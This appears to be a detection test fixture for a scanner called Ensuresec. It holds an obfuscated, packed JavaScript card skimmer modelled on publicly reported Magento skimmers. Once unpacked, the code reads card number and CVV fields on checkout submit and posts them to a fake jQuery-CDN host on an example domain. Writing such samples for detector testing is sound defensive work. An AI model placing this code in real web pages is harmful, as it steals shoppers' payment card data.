// expect: ES-SHOP-001 ES-SHOP-005
// Written for Ensuresec's tests from public descriptions of skimmers hidden with Dean Edwards' packer (Sucuri blog,
// "Credit card skimmer ... obfuscated with the packer", several posts 2019-2021; Malwarebytes Labs on packed skimmers
// in Magento footers): the payload is packed, reads the card inputs by id on submit and posts them with
// XMLHttpRequest to a domain posing as a jQuery CDN. Not the original code; packed here by a short script.
eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0 1=2.3("4");0 5=2.3("6");2.3("7").8=9(){0 a=b c();a.d("e","f://g-h-i.j/k/l",m);a.n("o="+1.p+"&5="+5.p);};',62,26,'var|f|document|getElementById|cc_number|c|cc_cvv|checkout_form|onsubmit|function|x|new|XMLHttpRequest|open|POST|https|cdn|jquery|min|example|api|log|true|send|n|value'.split('|'),0,{}))
